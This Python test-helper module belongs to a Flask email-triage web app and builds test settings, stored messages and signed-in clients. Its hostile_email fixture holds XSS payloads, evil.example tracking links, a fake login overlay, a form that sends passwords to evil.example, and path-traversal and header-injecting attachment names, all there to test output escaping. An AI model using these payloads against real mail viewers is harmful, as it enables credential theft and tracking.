"""Helpers for the web app's tests: settings, queue items stored directly, signed-in test clients.

One factory makes every variant (Datasette's make_app_client): items go through the real parser,
the real route templates (replies.render_draft via route_drafts.draft_for_route) and Store.add_message,
without IMAP or the classifier, so HTTP tests stay fast.
"""

from __future__ import annotations

import datetime as dt
import itertools
import re
from email.message import EmailMessage
from email.utils import format_datetime, make_msgid
from pathlib import Path

from flask import Flask
from flask.testing import FlaskClient

from replies import load_routes
from triage.domain import Classification, FetchedMail, Role
from triage.parsing import parse_message
from triage.route_drafts import draft_for_route
from triage.triaging import case_reference, reply_due
from triage.settings import Settings, load_settings
from triage.domain import NewMessage, dedupe_key
from triage.store import Store
from triage.web import create_app
from triage.web.passwords import hash_password

from .factories import make_email

PASSWORD = "a-long-test-password"
_uids = itertools.count(1)


def write_settings(tmp_path: Path, routes_file: Path | None = None, **web: object) -> Path:
    """A settings file with a private data directory and a [web] section (plain-HTTP cookies by default)."""
    web = {"secure_cookies": False, **web}
    lines = ["[service]", f'data_dir = "{tmp_path / "data"}"']
    if routes_file is not None:
        lines.append(f'routes_file = "{routes_file}"')
    lines.append("[web]")
    for key, value in web.items():
        lines.append(f"{key} = {_toml(value)}")
    path = tmp_path / "settings.toml"
    path.write_text("\n".join(lines) + "\n")
    return path


def _toml(value: object) -> str:
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, str):
        return f'"{value}"'
    return str(value)


def make_app(tmp_path: Path, routes_file: Path | None = None, clock=None, **web: object) -> tuple[Flask, Store, Settings]:
    settings = load_settings(write_settings(tmp_path, routes_file, **web), environ={})
    store = Store(settings.database_url)
    store.migrate()
    app = create_app(settings, store, clock=clock) if clock else create_app(settings, store)
    app.config["TESTING"] = True
    return app, store, settings


def add_item(store: Store, raw: bytes | None = None, route: str = "mediation", confidence: float = 0.9,
             needs_review: bool = False, safeguarding: bool = False, received: dt.datetime | None = None,
             routes_file: Path | None = None, today: dt.date | None = None, **email: object) -> int:
    """Store one message as intake would (real parsing and drafting), classified as told."""
    raw = raw if raw is not None else make_email(**email)  # type: ignore[arg-type]
    parsed = parse_message(raw)
    received = received or dt.datetime(2026, 11, 2, 9, 30, tzinfo=dt.timezone.utc)
    key = dedupe_key(parsed.message_id, raw)
    reference = case_reference(received, key)
    book = load_routes(routes_file or Path(__file__).parents[1] / "config" / "routes.toml")
    drafted = draft_for_route(parsed, route, reference, received, book, today=today or received.date())
    uid = next(_uids)
    item = store.messages.add_message(NewMessage(
        fetched=FetchedMail("test", "INBOX", 1, uid, raw, internal_date=received), parsed=parsed, key=key,
        reference=reference, recorded_only=False,
        classification=Classification(route, confidence, needs_review, safeguarding,
                                      {route: confidence, "other": round(1 - confidence, 4)}, "m-test",
                                      ("You refused to assess Anya in your letter.", "I want mediation."),
                                      ("suicidal talk",) if safeguarding else (),
                                      safeguarding_evidence=("She says she wants to die.",) if safeguarding else (),
                                      runner_up=("tribunal", 0.08) if confidence < 0.95 else None),
        draft=drafted.draft, draft_meta=drafted.meta, flags=drafted.flags, due_at=reply_due(received, 10),
        statutory_deadline=drafted.statutory_deadline, appeal_deadline=drafted.appeal_deadline,
        adviser_until=drafted.adviser_until,
    ))
    assert item is not None
    return item


def add_user(store: Store, name: str, role: Role = Role.CASEWORKER, password: str = PASSWORD) -> None:
    store.accounts.add_user(name, hash_password(password), role, "test")


def csrf(client: FlaskClient, path: str = "/login") -> str:
    """The CSRF token from a page's form (fetching it starts the session)."""
    html = client.get(path).get_data(as_text=True)
    found = re.search(r'name="csrf_token" value="([^"]+)"', html)
    assert found, f"no csrf_token on {path}"
    return found.group(1)


def signed_in(app: Flask, name: str, password: str = PASSWORD, address: str = "127.0.0.1") -> FlaskClient:
    client = app.test_client()
    client.environ_base["REMOTE_ADDR"] = address
    response = client.post("/login", data={"username": name, "password": password, "csrf_token": csrf(client)})
    assert response.status_code == 302, response.get_data(as_text=True)
    return client


def form_fields(html: str, action: str) -> dict[str, str]:
    """The hidden fields (csrf_token, version) of the form posting to `action`."""
    form = re.search(r'<form[^>]*action="' + re.escape(action) + r'"[^>]*>(.*?)</form>', html, re.S)
    assert form, f"no form for {action}"
    return dict(re.findall(r'<input type="hidden" name="([^"]+)" value="([^"]*)"', form.group(1)))


def hostile_email() -> bytes:
    """An email built to attack the page that shows it: scripts, handlers, links, CSS and file names."""
    msg = EmailMessage()
    msg["From"] = "Mallory <mallory@example.net>"
    msg["To"] = "ehc.assessment@brackenford.example.gov.uk"
    msg["Subject"] = "<script>window.__pwned=1</script> Appeal"
    msg["Date"] = format_datetime(dt.datetime(2026, 11, 2, 9, 30, tzinfo=dt.timezone.utc))
    msg["Message-ID"] = make_msgid("hostile", domain="example.net")
    msg.set_content("We want to appeal.<script>window.__pwned = 'text'</script> <img src=x onerror=alert(1)>")
    msg.add_alternative(HOSTILE_HTML, subtype="html")
    for name in ("../../evil.html", "a.pdf.exe", 'quote".pdf', "newline-placeholder.txt"):
        msg.add_attachment(b"<script>window.__pwned='download'</script>", maintype="text", subtype="html",
                           filename=name)
    # A name with a line break and markup in it, as RFC 2231 allows (the email package will not write one).
    return bytes(msg).replace(b'filename="newline-placeholder.txt"',
                              b"filename*=utf-8''new%0D%0Aline%22%3E%3Cb%3Ebold.txt")


HOSTILE_HTML = """<html><head><style>body, main { display: none !important; } .button { display:none }</style>
<script>window.__pwned = 'script'; alert('script')</script>
<base href="http://evil.example/">
<meta http-equiv="refresh" content="0;url=http://evil.example/">
<link rel="stylesheet" href="http://evil.example/steal.css"></head>
<body onload="window.__pwned='onload'">
<p>Please see <a href="javascript:window.__pwned='link'">my letter</a> and
<a href="JaVaScRiPt:alert(1)">this</a> and <a href="data:text/html,<script>alert(1)</script>">that</a>.</p>
<img src="x" onerror="window.__pwned='onerror'; alert('onerror')">
<img src="http://evil.example/track.gif?id=1" alt="tracker">
<img src="//evil.example/protocol-relative.gif" alt="tracker 2">
<img srcset="http://evil.example/srcset.png 1x" alt="tracker 3">
<div style="position:fixed;top:0;left:0;width:100%;height:100%;background:white;z-index:9999">Fake login: type your
password here</div>
<div class="banner-success">Approved by your supervisor</div>
<form action="http://evil.example/collect"><input name="password"><button>Send</button></form>
<iframe src="http://evil.example/frame"></iframe>
<svg onload="window.__pwned='svg'"><script>window.__pwned='svg-script'</script></svg>
<object data="http://evil.example/x.swf"></object>
<video src="http://evil.example/v.mp4" autoplay></video>
<p style="background:url(http://evil.example/bg.png)">styled</p>
<a href="/logout">relative</a>
</body></html>"""
